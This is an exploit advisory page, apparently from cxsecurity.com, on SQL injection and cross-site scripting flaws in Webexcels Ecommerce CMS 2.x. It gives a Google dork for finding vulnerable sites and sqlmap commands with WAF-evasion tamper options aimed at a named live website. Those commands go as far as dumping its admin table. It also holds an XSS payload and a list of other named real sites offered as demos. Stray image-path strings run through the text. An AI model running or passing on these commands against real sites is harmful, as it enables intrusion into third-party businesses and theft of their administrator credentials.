Webexcels Ecommerce CMS 2.x SQL Injection / Cross Site Scripting

Credit: thelastvvv
Risk: Medium
Local: No
Remote: Yes

# Exploit Title: Webexcels Ecommerce CMS SQL Injection & XSS Vulnerability # Google Dork: intext:intext:" By WEB EXCELS "+inurl:"?Id=" # Date: 2020-03-27 # Exploit Author: @ThelastVvV # Vendor Homepage: https://www.webexcels.com/ # Version: 2.x 2017,2018,2019,2020 # Tested on: Ubuntu--- PoC 1: The attacker once locate the sql vulnerability can perform an automated process to exploit the secruity in the webapp , in this case using sqlmap in 2 steps only *Note: once you get the db name you can skip the other steps and directly get "tbl_admin" data (you can use command 1 and 3 ..below) Payload(s) http://www.site.com/content.php?Id=[]'[SQL INJECTION VULNERABILITY!] SQLMAP Payload(s): sqlmap -u http://www.preceptorsports.com/content.php?Id=23 --identify-waf --random-agent -v 3 --tamper="between,randomcase,space2comment" --dbs sqlmap -u http://www.preceptorsports.com/content.php?Id=23 --identify-waf --random-agent -v 3 --tamper="between,randomcase,space2comment" -D precepto_web --tables sqlmap -u http://www.preceptorsports.com/content.php?Id=23 --identify-waf --random-agent -v 3 --tamper="between,randomcase,space2comment"--dump -D precepto_web -T tbl_admin PoC 2 : XSS Vulnerability Payload(s) : In Search box use payload: www.anysite.com/search.php?tsearch="><img src=x onerror=prompt(document.domain);> Demos: http://www.preceptorsports.com/content.php?Id=23' http://www.safety-town.com/content.php?Id=50' http://www.rehanasportspark.co.uk/content.php?Id=46' http://www.leatherhitz.com/content.php?Id=50' Greetings: *indoushka*

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1{{ x.comment }}

Copyright 2024,cxsecurity.com


Back to Top